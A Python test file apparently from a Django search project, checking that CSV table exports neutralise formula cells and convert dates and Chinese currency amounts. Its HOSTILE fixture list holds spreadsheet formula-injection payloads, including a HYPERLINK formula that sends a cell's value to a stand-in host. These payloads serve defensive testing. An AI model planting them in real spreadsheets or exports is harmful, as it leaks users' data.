"""Tables as data a spreadsheet reads correctly (issue #24, and #19 item 5): ISO dates,
amounts as numbers beside the printed text, and no formula ever exported live — tested
end to end with a document ingested through ``manage.py ingest`` whose table carries
hostile cells, read back with the csv module in Excel's dialect."""

from __future__ import annotations

import csv
import io
import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.test import override_settings

from search.engine.writer import build_index
from search.publish.exports import amount, iso_month, neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+1+cmd(..)",
    "@SUM(1+1)",
    "-2+3",
    "=1+2",
]


# --------------------------------------------------------------------------- cells


@pytest.mark.parametrize("cell", [*HOSTILE, "-", "+", "@", "\t=1", "\r=1", "-1e3x"])
def test_a_cell_that_could_be_a_formula_is_neutralised(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-1", "+3", "-2.5", "-1,200", "0", "1.5e3", "深圳",
                                  "=", ""])
def test_plain_numbers_and_text_stay_as_they_are(cell):
    expected = "'=" if cell == "=" else cell
    assert neutralise(cell) == expected


@pytest.mark.parametrize(("printed", "iso"), [
    ("2016.10", "2016-10"), ("2019.2", "2019-02"), ("2022-01-27", "2022-01-27"),
    ("2016.13", "2016.13"), ("35104", "35104"), ("1.5", "1.5")])
def test_printed_months_become_iso(printed, iso):
    assert iso_month(printed) == iso


@pytest.mark.parametrize(("printed", "found"), [
    ("10.7亿港元", ("1070000000", "HKD")),
    ("18.3亿人民币", ("1830000000", "CNY")),
    ("1.2亿美元", ("120000000", "USD")),
    ("5000万元", ("50000000", "CNY")),
    ("HKD 1.07 billion", ("1070000000", "HKD")),
    ("USD 120 million", ("120000000", "USD")),
    ("RMB 3.24 billion", ("3240000000", "CNY")),
    ("未透露", None), ("数亿美元", None), ("USD several hundred million", None),
    ("35104", None)])
def test_amounts_are_read_with_their_scale_and_currency(printed, found):
    assert amount(printed) == found


# --------------------------------------------------------------------------- end to end


def write_document(path) -> None:
    rows = [["地区", "时间", "说明", "金额", "排名变化"],
            ["深圳", "2021.03", HOSTILE[0], "10.7亿港元", "-1"],
            ["北京", "2022.11", HOSTILE[1], "未透露", "2"],
            ["上海", "2020.1", HOSTILE[2], "1.2亿美元", "-4"],
            ["杭州", "2019.12", HOSTILE[3], "5000万元", HOSTILE[4]]]
    lines = ["# 城市人工智能发展报告", "", "2024年5月", "", "# 一、发展概况", "",
             "各城市人工智能产业持续发展。", "", "## （一）产业规模", "",
             "重点城市的情况如下。", "", "表1 重点城市人工智能政策与融资", "",
             f"| {' | '.join(rows[0])} |", "|---" * len(rows[0]) + "|",
             *(f"| {' | '.join(row)} |" for row in rows[1:]), ""]
    path.write_text("\n".join(lines), encoding="utf-8")


@pytest.fixture(scope="module")
def served_document(tmp_path_factory):
    """A document with hostile cells, ingested as a user would, indexed alone."""
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "city-report.md"
    write_document(source)
    corpus = folder / "corpus"
    out = StringIO()
    call_command("ingest", str(source), corpus=corpus, stdout=out)
    assert "1 tables" in out.getvalue()
    stub = corpus / "city-report.toml"  # the user completes the stub, as ingest asks
    stub.write_text(stub.read_text(encoding="utf-8").replace(
        '# publisher = ""', 'publisher = "城市人工智能研究会"'), encoding="utf-8")
    index = folder / "var" / "index"
    build_index(corpus, index)
    return corpus, index


@pytest.fixture
def fetch(served_document, client):
    corpus, index = served_document
    with override_settings(SEARCH_INDEX_DIR=index, CORPUS_DIR=corpus):
        yield lambda url: client.get(url)


def excel_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), dialect="excel"))


def test_an_ingested_tables_formulas_are_exported_as_text(fetch):
    rows = excel_rows(fetch("/city-report/fig-1/data.csv"))
    assert rows[0] == ["地区", "时间", "说明", "金额", "金额 (数值)", "金额 (币种)", "排名变化"]
    explained = [row[2] for row in rows[1:]]
    assert explained == ["'" + cell for cell in HOSTILE[:4]]
    assert rows[4][6] == "'" + HOSTILE[4]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@")), cell
            assert not cell.startswith("-") or cell.lstrip("-").isdigit(), cell


def test_plain_negative_numbers_stay_numbers(fetch):
    rows = excel_rows(fetch("/city-report/fig-1/data.csv"))
    assert [row[6] for row in rows[1:4]] == ["-1", "2", "-4"]


def test_dates_and_amounts_of_an_ingested_table(fetch):
    rows = excel_rows(fetch("/city-report/fig-1/data.csv"))
    assert [row[1] for row in rows[1:]] == ["2021-03", "2022-11", "2020-01", "2019-12"]
    assert [row[3:6] for row in rows[1:]] == [
        ["10.7亿港元", "1070000000", "HKD"], ["未透露", "", ""],
        ["1.2亿美元", "120000000", "USD"], ["5000万元", "50000000", "CNY"]]


def test_the_json_keeps_the_printed_cells(fetch):
    """JSON is data for programs, not a spreadsheet: the cells as printed (a program
    escapes what it shows), the amounts beside."""
    response = fetch("/city-report/fig-1/data.json")
    data = json.loads(response.content)
    assert [row[2] for row in data["rows"]] == HOSTILE[:4]
    assert data["amounts"][0]["values"] == ["1070000000", None, "120000000", "50000000"]
